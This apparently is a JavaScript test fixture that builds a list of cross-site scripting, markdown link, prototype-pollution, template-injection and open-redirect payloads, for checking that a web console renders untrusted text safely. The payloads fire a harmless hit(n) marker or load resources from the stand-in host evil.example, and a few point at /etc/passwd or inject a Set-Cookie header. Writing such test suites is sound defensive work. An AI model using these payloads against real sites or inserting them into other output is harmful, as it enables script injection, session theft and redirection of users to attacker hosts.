// Texts that try to run code or to send a request when a page shows them. Each calls `hit` with its own number.

const EVIL = "evil.example";

const code = (number) => `hit(${number})`;

/** HTML in every place that browsers execute. */
const HTML = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt >${run}</sCrIpT >`,
  (run) => `<script/src=https://${EVIL}/a.js></script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src="x" onerror="${run}" style="display:none">`,
  (run) => `<img/src=x/onerror=${run}//`,
  () => `<img srcset="//${EVIL}/a.png 2x">`,
  (run) => `<svg onload=${run}>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  (run) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  (run) => `<body onload=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<video><source onerror=${run}></video>`,
  () => `<video poster=//${EVIL}/p.png>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>">`,
  () => `<iframe src=https://${EVIL}></iframe>`,
  (run) => `<object data="data:text/html,<script>${run}</script>">`,
  () => `<embed src=//${EVIL}/a.swf>`,
  () => `<link rel=stylesheet href=//${EVIL}/a.css>`,
  () => `<link rel=prefetch href=//${EVIL}/a>`,
  () => `<style>@import "//${EVIL}/a.css"; * { display: none }</style>`,
  () => `<div style="background:url(//${EVIL}/b.png)">`,
  () => `<base href=//${EVIL}/>`,
  () => `<meta http-equiv=refresh content="0;url=//${EVIL}">`,
  (run) => `<meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  (run) => `<form action=javascript:${run}><button>Approve</button></form>`,
  () => `<form id=root name=body><input name=parentNode><input name=attributes></form>`,
  (run) => `<a href=javascript:${run} autofocus>a</a>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<x onclick=${run} onmouseover=${run} tabindex=0>x</x>`,
  (run) => `"><script>${run}</script>`,
  (run) => `' autofocus onfocus='${run}' x='`,
  (run) => `</title></textarea></style></script><script>${run}</script>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<![CDATA[<script>${run}</script>]]>`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `&#60;img src=x onerror=${run}&#62;`,
  (run) => `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
];

/** Markdown, with what its links and pictures may hide. */
const MARKDOWN = [
  (run) => `[a](javascript:${run})`,
  (run) => `[a](JaVaScRiPt:${run})`,
  (run) => `[a](java\tscript:${run})`,
  (run) => `[a](&#106;avascript:${run})`,
  (run) => `[a](%6aavascript:${run})`,
  (run) => `[a]( javascript:${run} "b")`,
  (run) => `[a](<javascript:${run}>)`,
  (run) => `<javascript:${run}>`,
  (run) => `[a]: javascript:${run}\n[a]`,
  (run) => `[a](vbscript:${run})`,
  (run) => `[a](data:text/html,<script>${run}</script>)`,
  (run) => `[a](data:text/html;base64,${Buffer.from(`<script>${run}</script>`).toString("base64")})`,
  (run) => `[a](blob:https://${EVIL}/${run})`,
  () => `[a](file:///etc/passwd)`,
  () => `[a](//${EVIL}/b)`,
  () => `[a](\\\\${EVIL}\\b)`,
  () => `[a](https:${EVIL})`,
  () => `[https://circadian.example](https://user@${EVIL}/)`,
  () => `![a](https://${EVIL}/a.png)`,
  () => `![a](//${EVIL}/a.png "b")`,
  () => `[![a](https://${EVIL}/a.png)](https://${EVIL}/b)`,
  (run) => `![a](x"onerror="${run})`,
  (run) => `[a](https://${EVIL}/"onmouseover="${run})`,
  (run) => `**<b onmouseover=${run}>bold</b>** \`<i onclick=${run}>\``,
  (run) => `\`\`\`html"onclick="${run}\n<script>${run}</script>\n\`\`\``,
  (run) => `| <img src=x onerror=${run}> | b |\n| --- | --- |\n| [c](javascript:${run}) | d |`,
  (run) => `> [a](javascript:${run})\n> - ![b](https://${EVIL}/c.png)`,
  (run) => `https://${EVIL}/"><script>${run}</script>`,
];

/** Names of what JavaScript, templates and eyes take for something else. */
const NAMES = [
  () => "__proto__",
  () => "constructor",
  () => "toString",
  () => "hasOwnProperty",
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `\${${run}}`,
  (run) => `#{${run}}`,
  (run) => `javascript:${run}`,
  () => `//${EVIL}`,
  () => `../../../signin?next=//${EVIL}`,
  () => "\u202Egnp.exe",
  () => "a\u2028b\u2029c",
  () => "%00%0d%0aSet-Cookie: a=b",
];

const MAKERS = [...HTML, ...MARKDOWN, ...NAMES];

export const attacks = MAKERS.map((make, number) => make(code(number)));

/** Some of each kind, where there is no room for all: every second one, but all names. */
export const someAttacks = attacks.filter((_, number) => number % 2 === 0 || NAMES.includes(MAKERS[number]));

/** Addresses of the console that try to lead elsewhere, or to run something. */
export const addresses = [
  `/console//${EVIL}`, `/console/\\${EVIL}`, `/console/%2f%2f${EVIL}`, `/console/..%2f..%2f${EVIL}`, `/console/https://${EVIL}`,
  "/console/javascript:hit(900)", "/console/spaces/javascript:hit(901)", "/console/spaces/%3Cscript%3Ehit(902)%3C%2Fscript%3E",
  "/console/agents/%3Cimg%20src=x%20onerror=hit(903)%3E", "/console/agents/__proto__", "/console/organisation/constructor", "/console/organisation/%E0%A4%A",
  "/console/agents/a/cycles/%3Cscript%3E/steps/__proto__", "/console/spaces?search=%3Cscript%3Ehit(904)%3C/script%3E", "/console/agents?search=%22%3E%3Cimg%20src=x%20onerror=hit(905)%3E",
  "/console/agents?status=__proto__&order=constructor", "/console/spaces?new=%3Cscript%3Ehit(906)%3C/script%3E", "/console/costs?from=javascript:hit(907)&by=__proto__",
  "/console/approvals?call=%3Cscript%3Ehit(908)%3C/script%3E", "/console/organisation/models?tab=__proto__",
  `/console/signed-in?code=hit(909)&state=x&next=//${EVIL}`, `/console/signed-in?error=%3Cscript%3Ehit(910)%3C/script%3E&error_uri=javascript:hit(911)`,
  `/console/?next=//${EVIL}&redirect_uri=https://${EVIL}&return_to=javascript:hit(912)`, `/console?organisation=//${EVIL}`, "/console/#javascript:hit(913)",
  "/console/#%3Cscript%3Ehit(914)%3C/script%3E", "/console/?__proto__[hit]=915&constructor.prototype.x=1",
]; // prettier-ignore
